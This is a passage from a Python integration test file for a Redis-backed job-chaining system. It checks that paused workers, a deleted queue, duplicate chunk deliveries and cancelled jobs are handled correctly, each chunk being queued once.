        JobStore.from_url(cluster.url, settings.jobs.ttl_s),
        lambda job_id, number: app.send_task(CHUNK_TASK, args=[job_id, number], queue=QUEUE),
        2,
    )

    def sweep() -> list:
        while True:  # a worker's own sweep may hold the lock for a moment
            redis.delete(SWEEP_LOCK)
            swept = chain.sweep(0)
            if swept is not None:
                return sorted(pair for pair in swept if pair[0] == job_id)

    for proc in workers:
        proc.send_signal(signal.SIGSTOP)
    try:
        job_id = _submit(client, _items(seed_texts, 12, start=9200))
        assert sweep() == []  # its two tasks wait in the queue: alive, nothing queued twice
        redis.delete(QUEUE)  # the chain breaks (a task the paused worker had already taken still runs)
        assert sweep() == [(job_id, 0), (job_id, 1)]
    finally:
        for proc in workers:
            proc.send_signal(signal.SIGCONT)
    status = _wait(client, job_id, timeout=120)
    assert status["counts"] == {"total": 12, "done": 12, "failed": 0, "cancelled": 0, "pending": 0}
    assert [line["index"] for line in _lines(client, job_id)] == list(range(12))
    assert sweep() == []  # a finished job is forgotten
    assert redis.zscore("ringkas:jobs:chained", job_id) is None


@pytest.mark.integration
def test_a_chain_queues_each_chunk_once_however_often_a_chunk_is_delivered():
    """The window holds: a chunk delivered twice (its worker died before the ack) queues its
    successor once, the chain ends at the last chunk, and a cancelled job queues nothing more."""
    from api.jobs.chain import CHAINED, Chain
    from api.jobs.store import JobStore
    from tests.helpers import redis_server

    with redis_server() as url:
        store = JobStore.from_url(url, 60)
        sent: list[tuple[str, int]] = []
        chain = Chain(store, lambda job_id, number: sent.append((job_id, number)), window=2)
        job_id, other = "job_" + "5" * 32, "job_" + "6" * 32
        for name in (job_id, other):
            store.create(name, "public", total=5, chunks=5, chunk_size=1)
        assert list(chain.begin(job_id, 5)) == [0, 1] and list(chain.begin(other, 5)) == [0, 1]
        assert [chain.follow(job_id, n) for n in (0, 0, 1, 1, 2, 3, 4)] == [2, None, 3, None, 4, None, None]
        assert sent == [(job_id, 2), (job_id, 3), (job_id, 4)]
        store.cancel(other)
        assert chain.follow(other, 0) is None and sent[-1][0] == job_id
        assert store.client.zscore(CHAINED, other) is None  # a cancelled job is no longer watched
